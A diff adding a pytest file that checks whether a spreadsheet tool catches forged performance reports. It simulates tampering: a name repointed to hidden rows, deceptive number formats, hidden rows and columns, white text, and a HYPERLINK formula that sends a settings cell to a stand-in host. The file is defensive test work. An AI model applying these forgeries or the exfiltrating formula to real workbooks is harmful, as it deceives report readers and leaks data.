@@ -1,0 +1,111 @@
+"""Forgeries in what a reader sees: `check` compares the workbook with the one its embedded definition builds
+(the authority for where every name points) and looks at formats, hidden rows and columns, colours and
+formulas of locked data, not only at values."""
+from __future__ import annotations
+
+import pytest
+from openpyxl.styles import Font
+
+from kinerja_xl.domain import names as N
+from kinerja_xl.domain.appearance import forging_format
+from tests.conftest import named_cells
+from tests.flow import tamper
+
+
+def repoint_indicators_to_a_hidden_copy(wb):
+    """The attack: copy the table to hidden rows, point `indikator` (and its `_peta` entry) there, then change
+    what Excel shows in the original place."""
+    ws = wb["3 Input Data"]
+    rows = named_cells(wb, "indikator")
+    top = 400
+    for r, row in enumerate(rows):
+        for c, cell in enumerate(row):
+            ws.cell(top + r, cell.column, cell.value)
+        ws.row_dimensions[top + r].hidden = True
+    first, last = rows[0][0], rows[-1][-1]
+    new_ref = f"'3 Input Data'!${first.column_letter}${top}:${last.column_letter}${top + len(rows) - 1}"
+    wb.defined_names["indikator"].attr_text = new_ref
+    peta = wb[N.MAP_SHEET]
+    for row in peta.iter_rows():
+        if row[0].value == "indikator":
+            row[1].value = new_ref
+    rows[3][9].value = 95  # J16, what everyone sees and prints
+
+
+def number_format(name, r, c, fmt):
+    def edit(wb):
+        named_cells(wb, name)[r][c].number_format = fmt
+    return edit
+
+
+def hide_row(name, r):
+    def edit(wb):
+        cell = named_cells(wb, name)[r][0]
+        cell.parent.row_dimensions[cell.row].hidden = True
+    return edit
+
+
+def hide_column(name, c):
+    def edit(wb):
+        cell = named_cells(wb, name)[0][c]
+        cell.parent.column_dimensions[cell.column_letter].hidden = True
+    return edit
+
+
+def white_text(name, r, c):
+    def edit(wb):
+        named_cells(wb, name)[r][c].font = Font(color="FFFFFFFF")
+    return edit
+
+
+def formula(name, r, c, text):
+    def edit(wb):
+        named_cells(wb, name)[r][c].value = text
+    return edit
+
+
+def extra_name(wb):
+    from openpyxl.workbook.defined_name import DefinedName
+
+    wb.defined_names["indikator_asli"] = DefinedName("indikator_asli", attr_text="'3 Input Data'!$A$13:$M$20")
+
+
+def edit_name_map(wb):
+    for row in wb[N.MAP_SHEET].iter_rows():
+        if row[0].value == "ttd_blok":
+            row[1].value = "'5 Validasi'!$B$40:$B$45"
+
+
+@pytest.mark.parametrize("edit, expected", [
+    (repoint_indicators_to_a_hidden_copy, "Nama 'indikator' menunjuk ke '3 Input Data'!$A$400"),
+    (number_format("indikator", 3, 9, '"95"'), "Sel '3 Input Data'!J16 (Realisasi TW IV, baris 4"),
+    (number_format("indikator", 3, 9, '0;;;'), "format angka '0;;;'"),
+    (number_format(N.SIGNATURE, 2, 0, '0;0;0;"ORANG LAIN"'), "Sel '5 Validasi'!B18 (Tanda tangan: Nama)"),
+    (hide_row("indikator", 2), "Baris sel '3 Input Data'!A15 (No, baris 3"),
+    (hide_row(N.LOG, 1), "Baris sel 'Log'!A3"),
+    (hide_column("indikator", 9), "Kolom sel '3 Input Data'!J13 (Realisasi TW IV"),
+    (white_text("indikator", 1, 5), "Teks sel '3 Input Data'!F14 (Target, baris 2"),
+    (formula("indikator", 0, 9, "=80+5"), "Sel '3 Input Data'!J13 (Realisasi TW IV, baris 1 Data Input Kinerja Organisasi) berisi rumus"),
+    (formula(N.LOG, 1, 9, '=HYPERLINK("http://x/?"&Pengaturan!B10,"lihat")'), "Sel 'Log'!J3"),
+    (extra_name, "Nama 'indikator_asli'"),
+    (edit_name_map, "Daftar nama di lembar tersembunyi '_peta'"),
+])
+def test_forgeries_in_what_a_reader_sees_are_found_and_named(cli, closed, edit, expected):
+    tamper(closed, edit)
+    r = cli("check", closed)
+    assert r.code == 1 and expected in r.out, r.out
+
+
+def test_a_date_format_spelled_the_way_libreoffice_writes_it_is_no_finding(cli, closed):
+    tamper(closed, number_format("validasi_tanggal", 0, 0, "dd\\-mm\\-yyyy"))
+    assert cli("check", closed).code == 0
+
+
+@pytest.mark.parametrize("fmt, forges", [
+    ('"95"', True), ('0;;;', True), ('\\9\\5', True), ('[>0]"OK";0', True), ('"Rp "#,##0', False),
+    ('0;0;0;"ORANG LAIN"', True), ('[Red]0.00', False), ("DD-MM-YYYY HH:MM", False), ('0.00;[Red]-0.00', False),
+    ("DD-MM-YYYY", False), ("dd\\-mm\\-yyyy", False), ("0.00", False), ("General", False), ('0"%"', False),
+    ('#,##0;-#,##0', False), ('0;-0;;@', True),
+])
+def test_a_format_forges_when_it_prints_digits_that_are_not_the_value_or_hides_it(fmt, forges):
+    assert forging_format(fmt) is forges
